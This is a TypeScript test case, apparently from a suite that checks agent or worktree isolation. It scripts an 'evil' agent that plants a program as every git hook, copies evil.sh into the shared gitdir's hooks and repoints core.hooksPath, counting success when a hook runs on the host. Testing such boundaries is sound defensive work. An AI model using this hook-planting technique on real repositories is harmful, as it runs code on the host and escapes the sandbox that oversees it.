import type { Attack } from '../frame/attack.ts'
import { live, plant } from './_work.ts'

const events = ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'post-checkout', 'post-merge', 'pre-merge-commit', 'post-rewrite', 'reference-transaction', 'post-index-change', 'pre-auto-gc', 'pre-push', 'fsmonitor-watchman']

const attack: Attack = {
  tries: 'writes every hook into its gitdir and points core.hooksPath at its work tree',
  success: 'a hook runs on the host',
  run: async (t) => {
    const evil = await t.agent()
    const program = await plant(t, evil)
    await evil.sh(`mkdir -p $COMMON/hooks own-hooks; for h in ${events.join(' ')}; do ln -sf ${program} own-hooks/$h; cp evil.sh $COMMON/hooks/$h; done; git config core.hooksPath ${evil.worktree}/own-hooks`)
    const outcome = await live(t, evil, 'hooks')
    await evil.try(`for h in ${events.join(' ')}; do rm -f $COMMON/hooks/$h; done`)
    return outcome
  },
}
export default attack
